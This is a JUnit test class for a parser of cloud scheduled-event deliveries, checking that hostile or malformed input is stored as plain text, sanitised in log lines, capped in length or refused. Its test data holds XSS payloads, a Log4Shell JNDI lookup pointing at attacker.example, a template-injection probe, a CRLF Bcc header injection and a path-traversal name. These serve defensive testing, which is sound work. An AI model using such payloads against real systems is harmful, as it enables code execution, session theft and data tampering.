package scheduledevents.responder.intake;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static scheduledevents.responder.intake.DeliveryParserFixturesTest.RECEIVED;
import static scheduledevents.responder.intake.DeliveryParserFixturesTest.fixture;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Hostile text kept as text, wrong shapes cost only their own event, bodies that are no delivery refused. */
class DeliveryParserHostileTest {
    private static final String SEED = "{\"id\":\"%s\",\"eventType\":\"ScheduledEvent\",\"subject\":\"rg/vm1\","
            + "\"eventTime\":\"%s\",\"data\":%s}";
    private static final String IMDS = "{\"EventId\":\"E1\",\"EventType\":\"Reboot\",\"EventStatus\":\"%s\","
            + "\"NotBefore\":\"%s\",\"Resources\":[\"vm1\"]}";

    private final DeliveryParser parser = new DeliveryParser();

    private Delivery parse(String body) throws BadDeliveryException {
        return parser.parse(body.getBytes(StandardCharsets.UTF_8), "application/json", RECEIVED);
    }

    private static String seed(String id, String time, String data) {
        return String.format(SEED, id, time, data);
    }

    private static String imds(String status, String notBefore) {
        return String.format(IMDS, status, notBefore);
    }

    private static void assertSafe(String line) {
        assertFalse(line.contains("\r") || line.contains("\n") || line.contains("<") || line.contains(">")
                || line.contains("\"") || line.contains("$") || line.contains("{"), "unsafe: " + line);
        assertTrue(line.length() < 300, "short: " + line);
    }

    @Test
    void scriptInEveryFieldIsKeptVerbatimAsText() throws Exception {
        Delivery delivery = parser.parse(fixture("hostile/script-in-every-field.json"), null, RECEIVED);
        assertEquals(List.of(), delivery.ignored());
        FleetReport report = delivery.reports().get(0);
        assertEquals(1, delivery.reports().size());
        assertEquals(ReportSource.SEED_SCRIPT, report.source());
        assertEquals("\"><script>alert(document.cookie)</script>", report.eventId());
        assertEquals("<script>fetch('/api/events',{method:'DELETE'})</script>{{7*7}}${jndi:ldap://attacker.example/a}",
                report.description());
        assertEquals(List.of(new VmRef("<svg onload=alert(2)>", null, null, null),
                new VmRef("vm2\r\nBcc: attacker@example.com", null, null, null)), report.vms());
        assertEquals(new VmRef("<img src=x onerror=alert(1)>", "/subscriptions/x/resourceGroups/rg/providers/"
                + "Microsoft.Compute/virtualMachines/<img src=x onerror=alert(1)>", "rg", "x"), report.reporter());
        assertEquals("Scheduled", report.eventStatus());
        assertEquals(Instant.parse("2026-12-01T10:15:00Z"), report.notBefore());
    }

    @Test
    void wrongShapesAreEachIgnoredWithASafeLine() throws Exception {
        Delivery delivery = parser.parse(fixture("hostile/wrong-shapes.json"), null, RECEIVED);
        assertEquals(List.of(), delivery.reports());
        assertEquals(List.of(
                "event 1 of 4 (id e2): data is a string, not an object; ignored",
                "event 2 of 4 (id e3): data.resourceInfo is missing or not an object; ignored",
                "event 3 of 4 (id none): no EventId; ignored",
                "event 4 of 4 (id e4): event type not handled (expected ScheduledEvent or"
                        + " ...MaintenanceResources.ScheduledEventEmitted); ignored"), delivery.ignored());
    }

    @Test
    void oneBadEventOfABatchIsIgnoredAndTheGoodOnesKept() throws Exception {
        Delivery delivery = parse("[" + seed("a", "2026-12-01T10:00:00Z", imds("Scheduled", ""))
                + ", 42, " + seed("b", "2026-12-01T10:00:00Z", imds("Frozen", ""))
                + ", " + seed("c", "2026-12-01T10:00:01Z", imds("started", "")) + "]");
        assertEquals(List.of("a", "c"), delivery.reports().stream().map(FleetReport::deliveryId).toList());
        assertEquals(List.of("Scheduled", "Started"),
                delivery.reports().stream().map(FleetReport::eventStatus).toList());
        assertEquals(List.of("event 2 of 4: is a number, not an event object; ignored",
                "event 3 of 4 (id b): EventStatus is not Scheduled, Started, Completed or Canceled; ignored"),
                delivery.ignored());
    }

    @Test
    void anIgnoredLineShowsOnlyASanitisedShortId() throws Exception {
        String id = "<script>\\r\\nFAKE LOG LINE ${jndi:x} \\\"" + "x".repeat(500);
        Delivery delivery = parse("[" + seed(id, "t", "{\"EventId\":\"<b>secret-ish</b>\",\"EventStatus\":\"<i>\"}")
                + "]");
        String line = delivery.ignored().get(0);
        assertSafe(line);
        assertTrue(line.startsWith("event 1 of 1 (id ?script???FAKE?LOG?LINE"), line);
        assertFalse(line.contains("secret-ish"), line);
        assertEquals(List.of(), delivery.reports());
    }

    @Test
    void unknownStatusesTypesAndMissingFieldsAreIgnoredLines() throws Exception {
        Delivery delivery = parse("[" + seed("1", "t", "{\"EventStatus\":\"Scheduled\"}")
                + "," + seed("2", "t", "{\"EventId\":17,\"EventStatus\":\"Scheduled\"}")
                + "," + seed("3", "t", "{\"EventId\":\"E\"}")
                + "," + seed("4", "t", "[1]")
                + ",{\"id\":\"5\",\"data\":{}}"
                + ",{\"specversion\":\"1.0\",\"id\":\"6\",\"type\":\"ScheduledEvent\",\"data_base64\":\"e30=\"}"
                + ",{\"id\":\"7\",\"eventType\":\"Microsoft.EventGrid.SubscriptionValidationEvent\",\"data\":{}}"
                + ",{\"id\":\"8\",\"eventType\":\"Microsoft.ResourceNotifications.MaintenanceResources."
                + "ScheduledEventEmitted\",\"data\":{\"resourceInfo\":{\"properties\":\"x\"}}}"
                + "]");
        assertEquals(List.of(), delivery.reports());
        assertEquals(List.of(
                "event 1 of 8 (id 1): no EventId; ignored",
                "event 2 of 8 (id 2): EventId is not a non-empty text; ignored",
                "event 3 of 8 (id 3): no EventStatus; ignored",
                "event 4 of 8 (id 4): data is an array, not an object; ignored",
                "event 5 of 8 (id 5): no eventType; ignored",
                "event 6 of 8 (id 6): data_base64 is not read, only JSON data; ignored",
                "event 7 of 8 (id 7): a validation event without validationCode; ignored",
                "event 8 of 8 (id 8): data.resourceInfo.properties is missing or not an object; ignored"),
                delivery.ignored());
        assertNull(delivery.validationCode());
    }

    @Test
    void statusesAreNormalisedWhateverTheirCase() throws Exception {
        Delivery delivery = parse("[" + seed("1", "t", imds("SCHEDULED", "")) + "," + seed("2", "t", imds(" started", ""))
                + "," + seed("3", "t", imds("completed", "")) + "," + seed("4", "t", imds("Cancelled", "")) + "]");
        assertEquals(List.of("Scheduled", "Started", "Completed", "Canceled"),
                delivery.reports().stream().map(FleetReport::eventStatus).toList());
    }

    @Test
    void notBeforeInIsoOrRfc1123IsReadAndAnUnreadableOneIsKeptWithoutAStartTime() throws Exception {
        Delivery delivery = parse("[" + seed("1", "t", imds("Scheduled", "2026-12-01T10:15:00Z"))
                + "," + seed("2", "t", imds("Scheduled", "Tue, 01 Dec 2026 10:15:00 GMT"))
                + "," + seed("3", "t", imds("Scheduled", "tomorrow-ish"))
                + "," + seed("4", "t", imds("Scheduled", "")) + "]");
        Instant at = Instant.parse("2026-12-01T10:15:00Z");
        assertEquals(java.util.Arrays.asList(at, at, null, null),
                delivery.reports().stream().map(FleetReport::notBefore).toList());
        assertEquals(List.of(), delivery.ignored());
    }

    @Test
    void anUnreadableOrFarFutureEventTimeGivesTheReceiptTime() throws Exception {
        Delivery delivery = parse("[" + seed("1", "not-a-time", imds("Scheduled", ""))
                + "," + seed("2", "9999-12-31T00:00:00Z", imds("Scheduled", ""))
                + "," + seed("3", "2026-12-01T11:59:59.5+01:00", imds("Scheduled", ""))
                + "," + seed("4", "2026-12-01T11:00:00", imds("Scheduled", "")) + "]");
        assertEquals(List.of(RECEIVED, RECEIVED, Instant.parse("2026-12-01T10:59:59.5Z"),
                Instant.parse("2026-12-01T11:00:00Z")),
                delivery.reports().stream().map(FleetReport::observedAt).toList());
    }

    @Test
    void anAgentRecordsObservedAtComesBeforeTheEventTime() throws Exception {
        String record = "{\"EventId\":\"E1\",\"EventStatus\":\"Started\",\"Resources\":[\"vm1\"],"
                + "\"ObservedAt\":\"%s\",\"Occurrence\":2}";
        Delivery delivery = parse("[" + seed("1", "2026-12-01T10:00:09Z", String.format(record, "2026-12-01T10:00:01Z"))
                + "," + seed("2", "2026-12-01T10:00:09Z", String.format(record, "garbage")) + "]");
        assertEquals(List.of(Instant.parse("2026-12-01T10:00:01Z"), Instant.parse("2026-12-01T10:00:09Z")),
                delivery.reports().stream().map(FleetReport::observedAt).toList());
        assertEquals(ReportSource.AGENT, delivery.reports().get(0).source());
        assertEquals(2, delivery.reports().get(0).occurrence());
    }

    @Test
    void anAgentRecordWithoutVmIdentityIsReportedByTheEnvelopesVm() throws Exception {
        String data = "{\"EventId\":\"E1\",\"EventStatus\":\"Scheduled\",\"Resources\":[\"vm9\",\"VM9\",\"vm8\"],"
                + "\"DocumentIncarnation\":4,\"Vm\":{\"Name\":\"\",\"ResourceId\":null}}";
        // the agent's CloudEvents shape when it knows only its name: source /scheduled-events-agent/<name>
        String cloudEvent = "{\"specversion\":\"1.0\",\"id\":\"c\",\"type\":\"ScheduledEvent\",\"subject\":\"vm9\","
                + "\"source\":\"/scheduled-events-agent/vm9\",\"time\":\"2026-12-01T10:00:00Z\",\"data\":" + data + "}";
        Delivery delivery = parser.parse(cloudEvent.getBytes(StandardCharsets.UTF_8), "application/cloudevents+json",
                RECEIVED);
        FleetReport report = delivery.reports().get(0);
        assertEquals(ReportSource.AGENT, report.source());
        assertEquals(new VmRef("vm9", null, null, null), report.reporter());
        assertEquals(List.of("vm9", "vm8"), report.vms().stream().map(VmRef::name).toList(), "one entry per VM");
        // ... and unknown altogether: no reporter rather than a made-up one
        Delivery unknown = parse("[" + seed("u", "t", data).replace("rg/vm1", "unknown-vm") + "]");
        assertNull(unknown.reports().get(0).reporter());
    }

    @Test
    void aPlatformVmNameThatWouldChangeThePathGetsNoResourceId() throws Exception {
        String body = new String(fixture("platform/vmss-freeze-scheduled.json"), StandardCharsets.UTF_8)
                .replace("\"web-vmss_7\"", "\"../../evil/x\"");
        List<VmRef> vms = parse(body).reports().get(0).vms();
        // the scale set's id comes from resourceInfo.id, never from the name
        assertEquals(new VmRef("../../evil/x", null, "rg-web", "00000000-1111-2222-3333-444444444444",
                "/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg-web/providers/"
                        + "Microsoft.Compute/virtualMachineScaleSets/web-vmss"), vms.get(1));
    }

    @Test
    void hugeTextsAreCappedWithAMarkerAndLongVmListsCut() throws Exception {
        String huge = "d".repeat(100_000);
        StringBuilder names = new StringBuilder();
        for (int i = 0; i < 1500; i++) {
            names.append(i == 0 ? "" : ",").append("\"vm").append(i).append('"');
        }
        String data = "{\"EventId\":\"E1\",\"EventStatus\":\"Scheduled\",\"Description\":\"" + huge
                + "\",\"EventType\":\"" + "\uD83D\uDE00".repeat(5000) + "\",\"Resources\":[" + names + "]}";
        FleetReport report = parse("[" + seed("1", "t", data) + "]").reports().get(0);
        assertEquals(DeliveryParser.MAX_TEXT_CHARS, report.description().length());
        assertTrue(report.description().endsWith(DeliveryParser.TRUNCATED));
        assertTrue(report.description().startsWith("d".repeat(4000)));
        assertTrue(report.eventType().endsWith("\uDE00" + DeliveryParser.TRUNCATED), "no pair cut in half");
        assertEquals(DeliveryParser.MAX_VMS, report.vms().size());
        assertEquals("vm999", report.vms().get(999).name());
    }

    @Test
    void aBatchOverTheEventLimitKeepsTheFirstEventsAndSaysSo() throws Exception {
        StringBuilder body = new StringBuilder("[");
        for (int i = 0; i < DeliveryParser.MAX_EVENTS + 2; i++) {
            body.append(i == 0 ? "" : ",").append(seed("i" + i, "t", imds("Scheduled", "")));
        }
        Delivery delivery = parse(body.append(']').toString());
        assertEquals(DeliveryParser.MAX_EVENTS, delivery.reports().size());
        assertEquals(List.of("events 5001 to 5002 of 5002: more than 5000 events in one delivery; ignored"),
                delivery.ignored());
    }

    @Test
    void anEmptyArrayIsAnEmptyDelivery() throws Exception {
        Delivery delivery = parse("[]");
        assertEquals(List.of(), delivery.reports());
        assertEquals(List.of(), delivery.ignored());
        assertFalse(delivery.isValidation());
    }

    @Test
    void aBodyThatIsNotJsonIsRefusedWithoutQuotingIt() {
        BadDeliveryException e = assertThrows(BadDeliveryException.class,
                () -> parse("<script>alert(1)</script>\r\nnot json"));
        assertTrue(e.getMessage().startsWith("the body is not JSON"), e.getMessage());
        assertSafe(e.getMessage());
        assertThrows(BadDeliveryException.class, () -> parse("[{\"id\":\"a\""), "truncated");
        assertThrows(BadDeliveryException.class, () -> parse("[] [1]"), "trailing content");
        assertThrows(BadDeliveryException.class, () -> parse("[" .repeat(5000) + "]".repeat(5000)), "too deep");
    }

    @Test
    void anEmptyBodyOrOneThatIsNoEventIsRefusedWithAClearLine() {
        assertEquals("the body is empty: expected an event or an array of events",
                assertThrows(BadDeliveryException.class, () -> parser.parse(new byte[0], null, RECEIVED)).getMessage());
        assertEquals("the body is empty: expected an event or an array of events",
                assertThrows(BadDeliveryException.class, () -> parse("  \n")).getMessage());
        assertEquals("the body is JSON but a string, not an event or an array of events",
                assertThrows(BadDeliveryException.class, () -> parse("\"<b>x</b>\"")).getMessage());
        assertEquals("the body is JSON but null, not an event or an array of events",
                assertThrows(BadDeliveryException.class, () -> parse("null")).getMessage());
        assertEquals("the body is a JSON object without eventType or type: expected an event or an array of events",
                assertThrows(BadDeliveryException.class, () -> parse("{\"EventId\":\"x\"}")).getMessage());
    }
}
